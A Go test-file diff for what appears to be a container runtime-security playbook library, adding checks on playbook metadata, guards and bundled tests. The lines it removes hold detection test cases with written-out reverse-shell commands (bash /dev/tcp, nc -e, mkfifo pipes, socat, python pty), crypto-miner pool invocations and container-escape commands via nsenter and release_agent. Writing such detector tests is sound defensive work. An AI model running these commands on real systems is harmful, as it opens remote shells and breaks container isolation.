@@ -1,150 +1,239 @@
 package playbooks_test
 
 import (
-	"encoding/json"
+	"io/fs"
+	"path"
+	"slices"
+	"strings"
 	"testing"
 
 	"firebreak/playbooks"
 	"firebreak/schemas"
 	"firebreak/services/playbook"
+	"firebreak/services/responder/action"
+	"firebreak/services/workshop/format"
+	"firebreak/services/workshop/suite"
+	"firebreak/services/workshop/testfile"
+	"firebreak/services/workshop/trial"
 
 	"github.com/google/go-cmp/cmp"
 )
 
-// specs describe the actions that the library uses, as far as lint looks.
-var specs = []schemas.Spec{
-	{Name: "container.pause", TargetKind: "container", Undo: "lets it run on", Params: json.RawMessage(`{"type":"object","properties":{"scope":{"enum":["pod","container"]}},"additionalProperties":false}`)},
-	{Name: "evidence.capture", TargetKind: "container"},
-	{Name: "notify.log", TargetKind: "incident", Params: json.RawMessage(`{"type":"object","properties":{"text":{"type":"string","minLength":1},"to":{"type":"string"}},"required":["text"],"additionalProperties":false}`)},
-}
+const (
+	// fewest is how many playbooks the library holds at least.
+	fewest = 40
+	// longest is how many characters a summary has at most: it is one line of
+	// `playbook list` and of a message at night.
+	longest = 160
 
-func load(t *testing.T, mode string) map[string]*playbook.Playbook {
+	schemaLine = "# yaml-language-server: $schema=../../schemas/playbook.schema.json\n"
+)
+
+var arenas = []string{"registry", "runtime", "host", "cluster"}
+
+// load gives the library as a deployment loads it, and wants lint to be silent.
+func load(t *testing.T, mode string) *playbook.Set {
 	t.Helper()
 	sources, err := playbook.FromFS(playbooks.FS, mode)
 	if err != nil {
 		t.Fatal(err)
 	}
-	set, findings := playbook.Load(sources, specs)
+	set, findings := playbook.Load(sources, action.Specs())
 	for _, f := range findings {
 		t.Error(f)
 	}
 	if set == nil {
 		t.Fatal("the library does not load")
 	}
-	byName := map[string]*playbook.Playbook{}
+	return set
+}
+
+func TestLibraryIsLarge(t *testing.T) {
+	t.Parallel()
+	got := map[string]int{}
+	for _, p := range load(t, "").Playbooks {
+		got[p.Arena]++
+	}
+	total := 0
+	for _, n := range got {
+		total += n
+	}
+	if total < fewest {
+		t.Errorf("%d playbooks (%v), want at least %d", total, got, fewest)
+	}
+}
+
+func TestLibraryIsCapped(t *testing.T) {
+	t.Parallel()
+	own := map[string]string{}
+	for _, p := range load(t, "").Playbooks {
+		own[p.Name] = p.Guard.Mode
+	}
+	got := map[string]string{}
+	for _, p := range load(t, playbook.ModeEnforce).Playbooks {
+		got[p.Name] = p.Guard.Mode
+	}
+	if diff := cmp.Diff(own, got); diff != "" {
+		t.Errorf("with library: enforce (-as written +got):\n%s", diff)
+	}
+	for _, p := range load(t, playbook.ModeObserve).Playbooks {
+		if p.Guard.Mode != playbook.ModeObserve {
+			t.Errorf("%s: mode %s with library: observe", p.Name, p.Guard.Mode)
+		}
+	}
+}
+
+func TestLibraryMetadata(t *testing.T) {
+	t.Parallel()
+	set := load(t, "")
 	for _, p := range set.Playbooks {
-		byName[p.Name] = p
+		folder, file := path.Split(p.File)
+		if want := p.Name + ".yaml"; file != want {
+			t.Errorf("%s: the file is to be called %s", p.File, want)
+		}
+		if folder != p.Arena+"/" || !slices.Contains(arenas, p.Arena) {
+			t.Errorf("%s: lies in %s, and its arena is %s", p.Name, folder, p.Arena)
+		}
+		if !strings.HasPrefix(string(set.Sources[p.File]), schemaLine) {
+			t.Errorf("%s: does not begin with the line for editors, %s", p.File, schemaLine)
+		}
+		if n := len([]rune(p.Summary)); n > longest || n < 30 {
+			t.Errorf("%s: the summary has %d characters, want 30 to %d", p.Name, n, longest)
+		}
+		if strings.HasSuffix(p.Summary, ".") || strings.Contains(p.Summary, ". ") {
+			t.Errorf("%s: the summary is one sentence without a full stop: %q", p.Name, p.Summary)
+		}
+		if !strings.Contains(p.Summary, "people") {
+			t.Errorf("%s: the summary does not name what is left to people: %q", p.Name, p.Summary)
+		}
+		if len(p.Attack) == 0 {
+			t.Errorf("%s: names no technique of ATT&CK", p.Name)
+		}
 	}
-	return byName
 }
 
-func TestLibraryModes(t *testing.T) {
+func TestLibraryGuards(t *testing.T) {
 	t.Parallel()
-	for _, tt := range []struct {
-		mode string
-		want map[string]string
-	}{
-		{"observe", map[string]string{"drifted-executable": "observe", "escape-tool": "observe", "miner-in-container": "observe", "reverse-shell": "observe", "shell-by-exec": "observe"}},
-		{"enforce", map[string]string{"drifted-executable": "observe", "escape-tool": "enforce", "miner-in-container": "enforce", "reverse-shell": "enforce", "shell-by-exec": "enforce"}},
-	} {
-		got := map[string]string{}
-		for name, p := range load(t, tt.mode) {
-			got[name] = p.Guard.Mode
-			if len(p.By) != 1 || p.Once == 0 {
-				t.Errorf("%s: by %v, once %v: want one group for each container, once", name, p.By, p.Once)
+	for _, p := range load(t, "").Playbooks {
+		if !p.Match.Grouped() || p.Once == 0 {
+			t.Errorf("%s: without match.by and once each event would open an incident", p.Name)
+		}
+		if p.Guard.Limit == nil {
+			t.Errorf("%s: has no guard.limit, and nothing but the deployment's own budget bounds it", p.Name)
+		}
+		does := doing(p.Steps)
+		if len(does) == 0 || does[len(does)-1] != "notify.log" {
+			t.Errorf("%s: does not end by telling people: %v", p.Name, does)
+		}
+		pauses := slices.Contains(does, "container.pause")
+		if pauses && !slices.Contains(does, "evidence.capture") {
+			t.Errorf("%s: pauses and keeps no evidence", p.Name)
+		}
+		if pauses && p.Guard.Mode == playbook.ModeEnforce && !slices.Contains([]string{"high", "critical"}, p.Severity) {
+			t.Errorf("%s: pauses for a matter of severity %s", p.Name, p.Severity)
+		}
+		for _, s := range p.Steps {
+			if s.Do == "container.pause" && (s.For == 0 || s.OnExpire == "") {
+				t.Errorf("%s: step %s does not say for how long, and what then", p.Name, s.ID)
 			}
 		}
-		if diff := cmp.Diff(tt.want, got); diff != "" {
-			t.Errorf("%s (-want +got):\n%s", tt.mode, diff)
+	}
+}
+
+func doing(steps []schemas.Step) []string {
+	var out []string
+	for _, s := range steps {
+		if s.Do != "" {
+			out = append(out, s.Do)
+		}
+		out = append(out, doing(s.Parallel)...)
+	}
+	return out
+}
+
+func TestLibraryUsesEveryOperator(t *testing.T) {
+	t.Parallel()
+	var used []string
+	note := func(m playbook.Match) {
+		used = append(used, string(m.Op))
+		if m.Until >= 0 {
+			used = append(used, "until")
 		}
 	}
-}
-
-// event makes a process in a container.
-func event(name, origin string, args ...string) schemas.ProcessEvent {
-	return schemas.ProcessEvent{
-		Host: &schemas.Host{Name: "n1"}, Container: &schemas.Container{ID: "c1"},
-		Process: &schemas.Process{PID: 4711, CommandArgs: args, Executable: &schemas.Executable{Name: name, Path: "/usr/bin/" + name, Origin: origin}},
+	for _, p := range load(t, "").Playbooks {
+		if p.Match.Op != playbook.OpAny || len(p.Match.Of) > 1 {
+			note(p.Match)
+		}
+		for _, s := range p.Signals {
+			if s.Match != nil {
+				note(*s.Match)
+			}
+		}
+	}
+	slices.Sort(used)
+	want := []string{"absent", "all", "any", "baseline", "count", "distinct", "sequence", "until"}
+	if diff := cmp.Diff(want, slices.Compact(used)); diff != "" {
+		t.Errorf("operators (-want +got):\n%s", diff)
 	}
 }
 
-func TestLibraryMatches(t *testing.T) {
+// TestLibraryTests runs the tests beside the playbooks as `playbook test` does,
+// and wants of each playbook one that fires and says what is done, and one that
+// stays silent.
+func TestLibraryTests(t *testing.T) {
 	t.Parallel()
-	outside := event("xmrig", "host", "xmrig")
-	outside.Container = nil
-	bare := schemas.ProcessEvent{Host: &schemas.Host{Name: "n1"}, Container: &schemas.Container{ID: "c1"}, Process: &schemas.Process{PID: 1}}
-	for _, tt := range []struct {
-		name, playbook string
-		event          schemas.ProcessEvent
-		want           bool
-	}{
-		{"xmrig of the upper layer", "miner-in-container", event("xmrig", "upper", "xmrig"), true},
-		{"xmrig of the image", "miner-in-container", event("xmrig", "image", "xmrig"), true},
-		{"a version of xmrig", "miner-in-container", event("xmrig-6.21", "volume", "./xmrig-6.21"), true},
-		{"renamed with a pool", "miner-in-container", event("kworker", "tmpfs", "./kworker", "-o", "stratum+tcp://pool.example:3333"), true},
-		{"renamed with a pool behind an equals sign", "miner-in-container", event("x", "memfd", "x", "--url=stratum+ssl://pool.example:3333"), true},
-		{"renamed with a miner's options", "miner-in-container", event("nginx", "upper", "nginx", "--donate-level=1"), true},
-		{"a search for miners", "miner-in-container", event("grep", "image", "grep", "-r", "stratum+tcp://", "/"), false},
-		{"a drifted search for a word", "miner-in-container", event("rg", "upper", "rg", "xmrig", "/"), false},
-		{"a name that only begins alike", "miner-in-container", event("xmrigger", "image", "xmrigger"), false},
-		{"a miner outside any container", "miner-in-container", outside, false},
-		{"nothing known of the program", "miner-in-container", bare, false},
-
-		{"upper", "drifted-executable", event("a", "upper", "a"), true},
-		{"memfd", "drifted-executable", event("", "memfd"), true},
-		{"image", "drifted-executable", event("a", "image", "a"), false},
-		{"volume", "drifted-executable", event("a", "volume", "a"), false},
-		{"unknown", "drifted-executable", event("a", "unknown", "a"), false},
-		{"nothing known of the program", "drifted-executable", bare, false},
-
-		{"bash on /dev/tcp", "reverse-shell", event("bash", "image", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"), true},
-		{"sh on /dev/udp", "reverse-shell", event("sh", "image", "sh", "-c", "sh -i >& /dev/udp/10.0.0.1/4242 0>&1"), true},
-		{"exec on a descriptor", "reverse-shell", event("bash", "image", "bash", "-c", "exec 5<>/dev/tcp/10.0.0.1/4242; cat <&5 | bash >&5"), true},
-		{"python", "reverse-shell", event("python3", "image", "python3", "-c", `import socket,pty;s=socket.socket();s.connect(("10.0.0.1",4242));pty.spawn("sh")`), true},
-		{"a fifo and nc", "reverse-shell", event("sh", "image", "sh", "-c", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f"), true},
-		{"nc -e", "reverse-shell", event("nc", "image", "nc", "10.0.0.1", "4242", "-e", "/bin/sh"), true},
-		{"nc -lpe", "reverse-shell", event("ncat", "image", "ncat", "-lpe", "/bin/bash"), true},
-		{"socat", "reverse-shell", event("socat", "image", "socat", "tcp-connect:10.0.0.1:4242", "exec:'bash -li',pty,stderr"), true},
-		{"a look whether a port is open", "reverse-shell", event("bash", "image", "bash", "-c", "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done"), false},
-		{"nc as a probe", "reverse-shell", event("nc", "image", "nc", "-z", "db", "5432"), false},
-		{"nc that serves a file", "reverse-shell", event("nc", "image", "nc", "-l", "-p", "80"), false},
-		{"python that connects", "reverse-shell", event("python3", "image", "python3", "-c", "import socket; socket.create_connection(('db', 5432))"), false},
-		{"an interactive shell", "reverse-shell", event("bash", "image", "bash", "-i"), false},
-		{"nothing known of the program", "reverse-shell", bare, false},
-
-		{"a tool by name", "escape-tool", event("deepce.sh", "upper", "deepce.sh"), true},
-		{"nsenter into process 1", "escape-tool", event("nsenter", "image", "nsenter", "-t", "1", "-m", "sh"), true},
-		{"nsenter into process 1 in one word", "escape-tool", event("nsenter", "image", "nsenter", "--target=1", "sh"), true},
-		{"nsenter elsewhere", "escape-tool", event("nsenter", "image", "nsenter", "-t", "4711", "-n", "ip", "a"), false},
-		{"a dropped container client", "escape-tool", event("ctr", "tmpfs", "ctr", "c", "ls"), true},
-		{"the image's container client", "escape-tool", event("docker", "image", "docker", "build", "."), false},
-		{"a dropped program on the release agent", "escape-tool", event("x", "upper", "x", "/sys/fs/cgroup/rdma/release_agent"), true},
-		{"the image's own program on it", "escape-tool", event("cat", "image", "cat", "/sys/fs/cgroup/rdma/release_agent"), false},
-		{"nothing known of the program", "escape-tool", bare, false},
-
-		{"bash", "shell-by-exec", event("bash", "image", "bash"), true},
-		{"a login shell", "shell-by-exec", event("sh", "image", "sh", "-l"), true},
-		{"by its arguments alone", "shell-by-exec", schemas.ProcessEvent{Host: &schemas.Host{Name: "n1"}, Container: &schemas.Container{ID: "c1"}, Process: &schemas.Process{PID: 1, CommandArgs: []string{"/bin/sh"}}}, true},
-		{"a probe", "shell-by-exec", event("sh", "image", "sh", "-c", "pg_isready"), false},
-		{"another program", "shell-by-exec", event("psql", "image", "psql"), false},
-	} {
-		t.Run(tt.playbook+"/"+tt.name, func(t *testing.T) {
+	bench := &suite.Bench{
+		Specs: action.Specs(), Formats: format.Names(),
+		Decode: format.ForTests(testfile.Start()), Runner: trial.New(action.Specs()),
+	}
+	for _, pair := range pairs(t) {
+		t.Run(strings.TrimSuffix(pair.Source.Name, ".yaml"), func(t *testing.T) {
 			t.Parallel()
-			raw, err := json.Marshal(tt.event)
-			if err != nil {
-				t.Fatal(err)
+			unit := bench.Load(pair)
+			for _, f := range append(unit.Broken, unit.Findings...) {
+				t.Error(f) // that no test fires or none is silent is one of them
 			}
-			var data map[string]any
-			if err := json.Unmarshal(raw, &data); err != nil {
-				t.Fatal(err)
+			if unit.Tests == nil {
+				t.Fatal("there are no tests that could be run")
 			}
-			got, err := load(t, "")[tt.playbook].Signals[0].When.Bool(data)
-			if got != tt.want {
-				t.Errorf("matches: %v, %v, want %v", got, err, tt.want)
+			if !slices.ContainsFunc(unit.Tests.Cases, says) {
+				t.Error("no test says which steps run or what comes of them")
 			}
-			if err != nil && tt.want {
-				t.Errorf("got %v", err)
+			for _, r := range bench.Run(unit, nil) {
+				for _, f := range r.Failures {
+					t.Errorf("%s:%d: %s: %s: want %s, got %s\n%s", r.File, f.Line, r.Name, f.Message, f.Want, f.Got, strings.Join(f.Why, "\n"))
+				}
 			}
 		})
 	}
+}
+
+// says tells whether a test wants more than that there is an incident.
+func says(c testfile.Case) bool {
+	return slices.ContainsFunc(c.Expect.Incidents, func(i testfile.Incident) bool { return len(i.Steps) > 0 || i.Outcome != "" })
+}
+
+func pairs(t *testing.T) []suite.Pair {
+	t.Helper()
+	sources, err := playbook.FromFS(playbooks.FS, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	names, err := fs.Glob(playbooks.FS, "*/*"+suite.Ending)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var tests []suite.Test
+	for _, name := range names {
+		data, err := fs.ReadFile(playbooks.FS, name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		tests = append(tests, suite.Test{Name: name, Data: data})
+	}
+	out, findings := suite.Pairs(sources, tests)
+	for _, f := range findings {
+		t.Error(f)
+	}
+	return out
 }
